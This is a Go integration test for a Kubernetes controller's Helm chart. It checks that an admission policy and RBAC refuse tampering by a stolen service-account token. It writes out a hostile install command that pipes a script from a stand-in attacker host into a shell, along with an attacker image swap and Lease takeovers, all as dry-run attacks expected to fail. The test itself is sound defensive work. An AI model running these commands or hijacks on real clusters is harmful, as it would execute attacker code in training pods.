package chartapply

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	authorizationv1 "k8s.io/api/authorization/v1"
	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/tools/leaderelection"
	"k8s.io/client-go/tools/leaderelection/resourcelock"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/yaml"

	"github.com/trainguard/trainguard/internal/controllers/rescheduler"
	"github.com/trainguard/trainguard/internal/foundations/contract"
	"github.com/trainguard/trainguard/internal/jobs"
	"github.com/trainguard/trainguard/test/chart"
)

// stateMode is a chart mode the fence over trainguard's own state (its
// ConfigMaps and its leader Lease) is tested in: the four of fenceModes,
// with the rescheduler, and one without it (no bad-node records to write).
type stateMode struct {
	name, release string
	set           []string
	rescheduler   bool
}

func stateModes(prefix string) []stateMode {
	var out []stateMode
	for _, m := range fenceModes(prefix) {
		out = append(out, stateMode{name: m.name, release: m.release, set: m.set, rescheduler: true})
	}
	return append(out, stateMode{name: "rescheduler disabled", release: prefix + "nr", set: []string{"rescheduler.enabled=false"}})
}

// waitFenceEnforced waits until the API server enforces the policy (it
// compiles policies asynchronously): a spoofed Event in kube-system, which
// RBAC lets the account create in every mode, is refused by it.
func waitFenceEnforced(t *testing.T, sa client.Client, policy string) {
	t.Helper()
	ensureNamespace(t, context.Background(), "kube-system")
	require.Eventually(t, func() bool {
		err := sa.Create(context.Background(), eventIn("kube-system", true), client.DryRunAll)
		return err != nil && strings.Contains(err.Error(), policy)
	}, 30*time.Second, 100*time.Millisecond, "the policy %s is enforced", policy)
}

// byPolicy says err is the policy's refusal (not RBAC's, nor another error).
func byPolicy(err error, policy string) bool {
	return apierrors.IsForbidden(err) && strings.Contains(err.Error(), "ValidatingAdmissionPolicy '"+policy+"'")
}

// badNodeRecord is a record as the rescheduler writes it
// (internal/controllers/rescheduler writeRecord): in trainguard's
// namespace, named after its job's key, labelled trainguard.io/bad-nodes.
func badNodeRecord(ns, job string) *corev1.ConfigMap {
	key := jobs.Key{Namespace: "ml-team", APIVersion: "kubeflow.org/v1", Kind: "PyTorchJob", Name: job}
	return &corev1.ConfigMap{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: rescheduler.RecordName(key), Labels: map[string]string{contract.LabelBadNodes: "true"}},
		Data: map[string]string{
			"nodes": `{"node-a":"2030-01-01T00:00:00Z"}`, "reschedules": "1",
			"job": key.String(), "jobAPIVersion": key.APIVersion,
		},
	}
}

// dryUpdateCM reads the stored ConfigMap (as the cluster admin), applies
// change and dry-runs the update as c.
func dryUpdateCM(t *testing.T, c client.Client, key client.ObjectKey, change func(*corev1.ConfigMap)) error {
	t.Helper()
	cm := &corev1.ConfigMap{}
	require.NoError(t, apiServer.c.Get(context.Background(), key, cm))
	change(cm)
	return c.Update(context.Background(), cm, client.DryRunAll)
}

// hijackedConfig is the configuration file with the agent swapped for an
// attacker's: every training pod injected after the next restart would run
// it as an init container.
func hijackedConfig(t *testing.T, raw string) string {
	t.Helper()
	cfg := map[string]any{}
	require.NoError(t, yaml.Unmarshal([]byte(raw), &cfg))
	agent, _ := cfg["agent"].(map[string]any)
	require.NotNil(t, agent, "the rendered configuration sets the agent")
	agent["image"] = "evil.example.com/agent:1"
	agent["installCommand"] = []any{"/bin/sh", "-c", "curl -s https://evil.example.com/x | sh"}
	out, err := yaml.Marshal(cfg)
	require.NoError(t, err)
	return string(out)
}

// configMapAttacks are the ConfigMap writes a stolen token would make in
// trainguard's namespace ns: on its configuration (key config), on a record
// (key record) and on a ConfigMap named like a record but not labelled one
// (key unlabelled). Each returns the API server's answer to a dry run.
func configMapAttacks(t *testing.T, sa client.Client, ns string, config, record, unlabelled client.ObjectKey) map[string]func() error {
	ctx := context.Background()
	create := func(name string, labels map[string]string) func() error {
		return func() error {
			return sa.Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name, Labels: labels},
				Data: map[string]string{"config.yaml": "agent:\n  image: evil.example.com/agent:1\n"}}, client.DryRunAll)
		}
	}
	recordLabel := map[string]string{contract.LabelBadNodes: "true"}
	return map[string]func() error{
		"setting agent.image and agent.installCommand in the configuration": func() error {
			return dryUpdateCM(t, sa, config, func(cm *corev1.ConfigMap) { cm.Data["config.yaml"] = hijackedConfig(t, cm.Data["config.yaml"]) })
		},
		"deleting the configuration": func() error {
			return sa.Delete(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: config.Namespace, Name: config.Name}}, client.DryRunAll)
		},
		"labelling the configuration a record": func() error {
			return dryUpdateCM(t, sa, config, func(cm *corev1.ConfigMap) { cm.Labels[contract.LabelBadNodes] = "true" })
		},
		"creating another ConfigMap":                          create("planted", nil),
		"creating a labelled ConfigMap not named a record":    create("planted", recordLabel),
		"creating a record-named ConfigMap without the label": create(contract.BadNodeRecordPrefix+"planted", nil),
		"creating a record-named ConfigMap labelled false":    create(contract.BadNodeRecordPrefix+"planted", map[string]string{contract.LabelBadNodes: "false"}),
		"turning a record into a non-record (label removed)": func() error {
			return dryUpdateCM(t, sa, record, func(cm *corev1.ConfigMap) { delete(cm.Labels, contract.LabelBadNodes) })
		},
		"turning a record into a non-record (label false)": func() error {
			return dryUpdateCM(t, sa, record, func(cm *corev1.ConfigMap) { cm.Labels[contract.LabelBadNodes] = "false" })
		},
		"turning a non-record into a record": func() error {
			return dryUpdateCM(t, sa, unlabelled, func(cm *corev1.ConfigMap) { cm.Labels = recordLabel })
		},
		"deleting a ConfigMap that is not a record": func() error {
			return sa.Delete(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: unlabelled.Name}}, client.DryRunAll)
		},
	}
}

// trainguard's configuration ConfigMap sat unfenced beside the bad-node
// records: with the token, setting agent.image or agent.installCommand in
// it (then forcing a restart by taking the leader Lease) made every
// training pod run the attacker's init container, and deleting it kept the
// next replica from starting. The fence now lets the
// account write only the records (named bad-nodes-…, labelled
// trainguard.io/bad-nodes=true, as stored and as written, in its own
// namespace), and none without the rescheduler; a careless wider grant is
// fenced too.
func TestAdmissionPolicyFencesTrainguardsConfigMaps(t *testing.T) {
	ctx := context.Background()
	for _, m := range stateModes("fencecm") {
		t.Run(m.name, func(t *testing.T) {
			ns, policy := m.release+"-system", m.release+"-trainguard-fence"
			sa := installFence(t, m.release, ns, m.set...)
			waitFenceEnforced(t, sa, policy)
			objs := renderChart(t, m.release, ns, m.set...)
			rendered, err := chart.Find(objs, "ConfigMap", m.release+"-trainguard")
			require.NoError(t, err)
			require.NoError(t, apiServer.c.Create(ctx, rendered.DeepCopy()), "installing the configuration")
			config := client.ObjectKeyFromObject(rendered)
			unlabelled := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: contract.BadNodeRecordPrefix + "not-a-record", Labels: map[string]string{"team": "ml"}}}
			require.NoError(t, apiServer.c.Create(ctx, unlabelled))

			// The rescheduler's and the sweeper's writes.
			record := badNodeRecord(ns, "job-a")
			if m.rescheduler {
				require.NoError(t, sa.Create(ctx, record), "the rescheduler creates a record")
				err := dryUpdateCM(t, sa, client.ObjectKeyFromObject(record), func(cm *corev1.ConfigMap) {
					cm.Data["nodes"] = `{"node-a":"2030-01-01T00:00:00Z","node-b":"2030-01-01T00:00:00Z"}`
					cm.Data["reschedules"] = "2"
				})
				assert.NoError(t, err, "the rescheduler records a second node")
				stored := &corev1.ConfigMap{}
				require.NoError(t, apiServer.c.Get(ctx, client.ObjectKeyFromObject(record), stored))
				assert.NoError(t, sa.Delete(ctx, stored, client.DryRunAll, client.Preconditions{UID: &stored.UID, ResourceVersion: &stored.ResourceVersion}),
					"the sweeper deletes the record of a job that is gone")
			} else {
				err := sa.Create(ctx, record.DeepCopy(), client.DryRunAll)
				assert.True(t, apierrors.IsForbidden(err), "no record without the rescheduler (RBAC), got %v", err)
				require.NoError(t, apiServer.c.Create(ctx, record))
			}
			recordKey := client.ObjectKeyFromObject(record)

			for what, do := range configMapAttacks(t, sa, ns, config, recordKey, client.ObjectKeyFromObject(unlabelled)) {
				err := do()
				if !m.rescheduler {
					assert.True(t, apierrors.IsForbidden(err), "%s: RBAC grants no ConfigMap write without the rescheduler, got %v", what, err)
					continue
				}
				assert.True(t, byPolicy(err, policy), "%s must be refused by the fence, got %v", what, err)
				if err != nil {
					assert.Contains(t, err.Error(), "may write only its bad-node records", what)
				}
			}

			// The second fence, should RBAC ever grant more.
			grantCarelessly(t, m.release+"-careless-configmaps", m.release, ns, []rbacv1.PolicyRule{{
				APIGroups: []string{""}, Resources: []string{"configmaps"}, Verbs: []string{"get", "list", "create", "update", "patch", "delete"},
			}}, authorizationv1.ResourceAttributes{Verb: "create", Resource: "configmaps", Namespace: "kube-system"})
			for what, do := range configMapAttacks(t, sa, ns, config, recordKey, client.ObjectKeyFromObject(unlabelled)) {
				err := do()
				assert.True(t, byPolicy(err, policy), "with wider RBAC, %s must be refused by the fence, got %v", what, err)
			}
			// A patch (which the chart's RBAC does not grant) is an update to the fence.
			err = sa.Patch(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: config.Namespace, Name: config.Name}},
				client.RawPatch(types.MergePatchType, []byte(`{"data":{"config.yaml":"agent:\n  image: evil.example.com/agent:1\n"}}`)), client.DryRunAll)
			assert.True(t, byPolicy(err, policy), "with wider RBAC, patching the configuration must be refused by the fence, got %v", err)
			elsewhere := badNodeRecord("kube-system", "job-a")
			err = sa.Create(ctx, elsewhere, client.DryRunAll)
			assert.True(t, byPolicy(err, policy), "with wider RBAC, a record outside trainguard's namespace must be refused, got %v", err)
			if m.rescheduler {
				assert.NoError(t, sa.Create(ctx, badNodeRecord(ns, "job-b"), client.DryRunAll), "the rescheduler still creates records")
				return
			}
			err = sa.Create(ctx, badNodeRecord(ns, "job-b"), client.DryRunAll)
			assert.True(t, byPolicy(err, policy), "with wider RBAC, no record without the rescheduler, got %v", err)
			if err != nil {
				assert.Contains(t, err.Error(), "writes no ConfigMap with the rescheduler disabled")
			}
		})
	}
}

// campaign runs one leader election as cfg's account for the Lease
// ns/name, as controller-runtime's manager does (client-go's LeaseLock,
// released on cancel), until it has led and renewed; then it gives the
// Lease up. It fails the test if leadership never came.
func campaign(t *testing.T, cfg *rest.Config, ns, name, identity string) {
	t.Helper()
	cs, err := kubernetes.NewForConfig(cfg)
	require.NoError(t, err)
	lock := &resourcelock.LeaseLock{
		LeaseMeta:  metav1.ObjectMeta{Namespace: ns, Name: name},
		Client:     cs.CoordinationV1(),
		LockConfig: resourcelock.ResourceLockConfig{Identity: identity},
	}
	led := make(chan struct{})
	le, err := leaderelection.NewLeaderElector(leaderelection.LeaderElectionConfig{
		Lock: lock, LeaseDuration: 15 * time.Second, RenewDeadline: 10 * time.Second, RetryPeriod: 200 * time.Millisecond,
		ReleaseOnCancel: true, Name: "chartapply",
		Callbacks: leaderelection.LeaderCallbacks{OnStartedLeading: func(context.Context) { close(led) }, OnStoppedLeading: func() {}},
	})
	require.NoError(t, err)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { defer close(done); le.Run(ctx) }()
	defer func() { cancel(); <-done }()
	select {
	case <-led:
	case <-time.After(60 * time.Second):
		require.FailNow(t, "never elected", "%s never led %s/%s", identity, ns, name)
	}
	lease := &coordinationv1.Lease{}
	require.Eventually(t, func() bool {
		if apiServer.c.Get(context.Background(), client.ObjectKey{Namespace: ns, Name: name}, lease) != nil {
			return false
		}
		s := lease.Spec
		return ptr.Deref(s.HolderIdentity, "") == identity && s.AcquireTime != nil && s.RenewTime != nil && s.RenewTime.After(s.AcquireTime.Time)
	}, 30*time.Second, 50*time.Millisecond, "%s renews %s/%s", identity, ns, name)
	cancel()
	<-done
	require.NoError(t, apiServer.c.Get(context.Background(), client.ObjectKey{Namespace: ns, Name: name}, lease))
	assert.Empty(t, ptr.Deref(lease.Spec.HolderIdentity, ""), "%s gave %s/%s up on cancel", identity, ns, name)
}

// leaseAttacks are the Lease writes and reads a stolen token would make,
// besides its own Lease ns/leader: another Lease of its namespace (other),
// and one of kube-system's (system).
func leaseAttacks(t *testing.T, sa client.Client, ns string, leader, other, system client.ObjectKey) map[string]func() error {
	ctx := context.Background()
	lease := func(key client.ObjectKey) *coordinationv1.Lease {
		return &coordinationv1.Lease{ObjectMeta: metav1.ObjectMeta{Namespace: key.Namespace, Name: key.Name},
			Spec: coordinationv1.LeaseSpec{HolderIdentity: ptr.To("attacker"), LeaseDurationSeconds: ptr.To[int32](3600)}}
	}
	// An update, as leader election writes its own Lease (RBAC grants no patch).
	take := func(key client.ObjectKey) func() error {
		return func() error {
			stored := &coordinationv1.Lease{}
			require.NoError(t, apiServer.c.Get(ctx, key, stored))
			stored.Spec.HolderIdentity, stored.Spec.LeaseDurationSeconds = ptr.To("attacker"), ptr.To[int32](3600)
			return sa.Update(ctx, stored, client.DryRunAll)
		}
	}
	return map[string]func() error{
		"creating a Lease of another name": func() error {
			return sa.Create(ctx, lease(client.ObjectKey{Namespace: ns, Name: "attacker"}), client.DryRunAll)
		},
		"creating its Lease's name in kube-system": func() error {
			return sa.Create(ctx, lease(client.ObjectKey{Namespace: "kube-system", Name: leader.Name}), client.DryRunAll)
		},
		"taking another Lease of its namespace": take(other),
		"taking kube-system's controller Lease": take(system),
		"deleting its leader Lease": func() error {
			return sa.Delete(ctx, lease(leader), client.DryRunAll)
		},
		"deleting another Lease": func() error {
			return sa.Delete(ctx, lease(other), client.DryRunAll)
		},
	}
}

// The Role granted get, create and update on every Lease of trainguard's
// namespace, and the fence matched none. The account now
// reads and writes only its leader-election Lease (RBAC by name for get and
// update; the fence for create, which RBAC cannot name), deletes none, and
// a careless wider grant is fenced too. Real leader election, as the
// account, still creates, renews, hands over and gives up the Lease.
func TestAdmissionPolicyFencesTheLeaderLease(t *testing.T) {
	ctx := context.Background()
	ensureNamespace(t, ctx, "kube-system")
	for _, m := range stateModes("fencelease") {
		t.Run(m.name, func(t *testing.T) {
			ns, policy := m.release+"-system", m.release+"-trainguard-fence"
			sa := installFence(t, m.release, ns, m.set...)
			waitFenceEnforced(t, sa, policy)

			// Two replicas, one after the other: the first creates the Lease
			// and gives it up, the second takes it over (an update).
			cfg := saConfig(m.release, ns)
			campaign(t, cfg, ns, contract.LeaderElectionID, m.release+"-a_1")
			campaign(t, cfg, ns, contract.LeaderElectionID, m.release+"-b_2")

			leader := client.ObjectKey{Namespace: ns, Name: contract.LeaderElectionID}
			other := client.ObjectKey{Namespace: ns, Name: "other-controller"}
			system := client.ObjectKey{Namespace: "kube-system", Name: fmt.Sprintf("%s-kube-controller-manager", m.release)}
			for _, key := range []client.ObjectKey{other, system} {
				require.NoError(t, apiServer.c.Create(ctx, &coordinationv1.Lease{ObjectMeta: metav1.ObjectMeta{Namespace: key.Namespace, Name: key.Name},
					Spec: coordinationv1.LeaseSpec{HolderIdentity: ptr.To("someone"), LeaseDurationSeconds: ptr.To[int32](15)}}))
			}
			err := sa.Get(ctx, other, &coordinationv1.Lease{})
			assert.True(t, apierrors.IsForbidden(err), "reading another Lease of its namespace is forbidden (RBAC by name), got %v", err)

			for what, do := range leaseAttacks(t, sa, ns, leader, other, system) {
				err := do()
				assert.True(t, apierrors.IsForbidden(err), "%s must be refused, got %v", what, err)
			}
			err = leaseAttacks(t, sa, ns, leader, other, system)["creating a Lease of another name"]()
			assert.True(t, byPolicy(err, policy), "RBAC cannot restrict create by name; the fence does, got %v", err)
			if err != nil {
				assert.Contains(t, err.Error(), "may create and update only its leader-election Lease "+ns+"/"+contract.LeaderElectionID)
			}

			// The second fence, should RBAC ever grant more.
			grantCarelessly(t, m.release+"-careless-leases", m.release, ns, []rbacv1.PolicyRule{{
				APIGroups: []string{"coordination.k8s.io"}, Resources: []string{"leases"}, Verbs: []string{"get", "list", "create", "update", "patch", "delete"},
			}}, authorizationv1.ResourceAttributes{Verb: "delete", Group: "coordination.k8s.io", Resource: "leases", Namespace: "kube-system"})
			for what, do := range leaseAttacks(t, sa, ns, leader, other, system) {
				err := do()
				assert.True(t, byPolicy(err, policy), "with wider RBAC, %s must be refused by the fence, got %v", what, err)
			}
			campaign(t, cfg, ns, contract.LeaderElectionID, m.release+"-c_3")
		})
	}
}
